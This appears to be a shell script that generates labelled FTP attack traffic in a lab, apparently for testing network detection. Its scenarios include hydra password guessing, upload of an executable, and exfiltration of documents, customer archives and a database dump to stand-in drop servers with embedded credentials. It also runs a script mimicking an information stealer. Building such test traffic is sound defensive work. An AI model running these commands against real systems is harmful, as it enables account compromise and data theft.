# FTP that nobody allowed.

take__ftp_brute_force() {
  take_begin ftp-brute-force full <<'Y'
title: Password guessing against the public FTP server
what: Somebody on the Internet tries a list of passwords for "admin" with four connections at once; none fits.
kind: hostile
client: { program: hydra, package: hydra }
server: { program: vsftpd, package: vsftpd }
roles: { client: 'x-atk:internet', server: 'dmz-ftp:fixed' }
sessions:
  - { client: client, server: server, port: 21, protocol: ftp, user: admin, login: failure, times: some }
Y
  seq -f 'Guess%02g!' 24 >"$work/words"
  on x-atk hydra -q -I -t 4 -l admin -P "$work/words" "ftp://$(address dmz-ftp)" >/dev/null 2>&1 || true
  take_end
}

take__ftp_guessed_upload() {
  take_begin ftp-guessed-upload full <<'Y'
title: A guessed password, then an executable
what: >-
  Password guessing against the public FTP server ends with the right one for "webadmin"; a minute later the same
  address logs in with it and stores an executable.
kind: hostile
client: { program: hydra and lftp, package: hydra }
server: { program: vsftpd, package: vsftpd }
roles: { client: 'x-atk:internet', server: 'dmz-ftp:fixed' }
sessions:
  - { client: client, server: server, port: 21, protocol: ftp, user: webadmin, login: failure, times: some }
  - client: client
    server: server
    port: 21
    protocol: ftp
    user: webadmin
    login: success
    transfers: [{ name: svc-update.exe, direction: upload, bytes: 48200 }]
Y
  { seq -f 'Guess%02g!' 17; echo summer2024; } >"$work/words"
  on x-atk hydra -q -I -t 2 -l webadmin -P "$work/words" "ftp://$(address dmz-ftp)" >/dev/null 2>&1 || true
  sleep 3
  file svc-update.exe 48200 exe >/dev/null
  on x-atk lftp -u webadmin,summer2024 -e "set ftp:ssl-allow no; put $work/files/svc-update.exe; bye" \
    "$(address dmz-ftp)"
  take_end
}

take__ftp_drip() {
  take_begin ftp-drip full <<'Y'
title: Slow drip of documents to an unknown FTP server
what: A workstation stores three small documents, each in a session of its own. The office repeats this over hours.
kind: hostile
client: { program: curl, package: curl }
server: { program: ProFTPD, package: proftpd-core }
roles: { client: 'ws-fin:workstation', server: 'x-drop2:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 21, protocol: ftp, user: drop, login: success, transfers: [{ name: forecast-a.docx, direction: upload, bytes: 21400 }] }
  - { client: client, server: server, port: 21, protocol: ftp, user: drop, login: success, transfers: [{ name: forecast-b.docx, direction: upload, bytes: 34100 }] }
  - { client: client, server: server, port: 21, protocol: ftp, user: drop, login: success, transfers: [{ name: forecast-c.docx, direction: upload, bytes: 18900 }] }
Y
  local name size
  while read -r name size; do
    file "$name" "$size" zip >/dev/null
    on ws-fin curl -4 -sS -T "$work/files/$name" "ftp://drop:Drop-it-4@$(dns_name x-drop2)/"
    sleep 5
  done <<'END'
forecast-a.docx 21400
forecast-b.docx 34100
forecast-c.docx 18900
END
  take_end
}

take__ftp_stealer() {
  take_begin ftp-stealer full <<'Y'
title: Reports of an information stealer
what: >-
  A program on a workstation asks a web service for its public address, then stores small files that are named after
  the host, one short FTP session each, on a hosting account whose name looks like a mailbox.
kind: hostile
client: { program: Python ftplib, package: python3 }
standIn: Python's ftplib in place of the .NET client of real stealers, with the same order of commands
server: { program: Pure-FTPd, package: pure-ftpd }
roles: { client: 'ws-fin:workstation', server: 'x-drop1:internet', dns: 'srv-dns:fixed', web: 'x-web3:fixed' }
sessions:
  - { client: client, server: server, port: 21, protocol: ftp, user: logs@mailer.example, login: success, transfers: [{ name: '@1', direction: upload, bytes: 0 }] }
  - { client: client, server: server, port: 21, protocol: ftp, user: logs@mailer.example, login: success, transfers: [{ name: '@2', direction: upload, bytes: 0 }] }
  - { client: client, server: server, port: 21, protocol: ftp, user: logs@mailer.example, login: success, transfers: [{ name: '@3', direction: upload, bytes: 0 }] }
  - { client: client, server: server, port: 21, protocol: ftp, user: logs@mailer.example, login: success, transfers: [{ name: '@4', direction: upload, bytes: 0 }] }
  - { client: client, server: server, port: 21, protocol: ftp, user: logs@mailer.example, login: success, transfers: [{ name: '@5', direction: upload, bytes: 0 }] }
Y
  on ws-fin curl -4 -sS -o /dev/null http://ip.whereami.example/ip
  on ws-fin /usr/bin/python3 "$here/py/ftp-stealer.py" logs@mailer.example Zx9-reports \
    "$(dns_name x-drop1)" FIN-WS-021 PW CO SC KL SC >"$work/printed"
  take_end
}

take__ftp_port_2121() {
  take_begin ftp-port-2121 full <<'Y'
title: FTP on port 2121 with an archive
what: A workstation stores an archive of customers on an FTP server that listens on another port.
kind: hostile
client: { program: ncftpput, package: ncftp }
server: { program: pyftpdlib, package: python3-pyftpdlib }
roles: { client: 'ws-sal:workstation', server: 'x-drop2:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 2121, protocol: ftp, user: courier, login: success, transfers: [{ name: customers.7z, direction: upload, bytes: 61000 }] }
Y
  file customers.7z 61000 7z >/dev/null
  on ws-sal ncftpput -V -u courier -p Night-21 -P 2121 "$(dns_name x-drop2)" / "$work/files/customers.7z" >/dev/null
  take_end
}

take__ftp_anonymous() {
  take_begin ftp-anonymous full <<'Y'
title: Anonymous login to an FTP server outside
what: A workstation logs in without an account to a server on the Internet and fetches a file.
kind: hostile
client: { program: tnftp, package: tnftp }
server: { program: vsftpd, package: vsftpd }
roles: { client: 'ws-eng:workstation', server: 'x-mirror:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 21, protocol: ftp, user: anonymous, login: anonymous, transfers: [{ name: viewer.bin, direction: download, bytes: 30500 }] }
Y
  cp "$(file viewer.bin 30500 random)" "$lab/home/x-mirror/ftp/pub/viewer.bin"
  (cd "$work/files" && on ws-eng tnftp -4 -V -o /dev/null "ftp://$(dns_name x-mirror)/pub/viewer.bin" >/dev/null 2>&1)
  take_end
}

take__ftp_executable() {
  take_begin ftp-executable full <<'Y'
title: An executable stored outside
what: A workstation stores a program on an unknown FTP server.
kind: hostile
client: { program: lftp, package: lftp }
server: { program: Pure-FTPd, package: pure-ftpd }
roles: { client: 'ws-eng:workstation', server: 'x-drop1:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 21, protocol: ftp, user: upl7, login: success, transfers: [{ name: loader64.dll, direction: upload, bytes: 39000 }] }
Y
  file loader64.dll 39000 exe >/dev/null
  on ws-eng lftp -u upl7,Qw-7781 -e "set dns:order inet; set ftp:ssl-allow no; set ftp:use-pret no; put $work/files/loader64.dll; bye" "$(dns_name x-drop1)"
  take_end
}

take__ftp_database_dump() {
  take_begin ftp-database-dump none <<'Y'
title: A database dump stored outside
what: The database server stores a compressed dump of 1.4 MB on an unknown FTP server.
kind: hostile
client: { program: ncftpput, package: ncftp }
server: { program: Pure-FTPd, package: pure-ftpd }
roles: { client: 'srv-db:fixed', server: 'x-drop1:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 21, protocol: ftp, user: upl7, login: success, transfers: [{ name: crm-full.sql.gz, direction: upload, bytes: 1400000 }] }
Y
  file crm-full.sql.gz 1400000 gz >/dev/null
  on srv-db ncftpput -V -u upl7 -p Qw-7781 "$(dns_name x-drop1)" . "$work/files/crm-full.sql.gz" >/dev/null
  take_end
}

take__partner_misuse() {
  take_begin partner-misuse full <<'Y'
title: The partner's account used from a workstation
what: >-
  The account and the server are those of the allowed partner transfer, but the client is a workstation and not the
  transfer server.
kind: hostile
client: { program: curl, package: curl }
server: { program: ProFTPD, package: proftpd-core }
roles: { client: 'ws-sal:workstation', server: 'x-partner:fixed', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 21, protocol: ftp, user: partner-ex, login: success, transfers: [{ name: leads-private.csv, direction: upload, bytes: 27700 }] }
Y
  file leads-private.csv 27700 >/dev/null
  on ws-sal curl -4 -sS -T "$work/files/leads-private.csv" "ftp://partner-ex:Accord-5512@$(dns_name x-partner)/"
  take_end
}
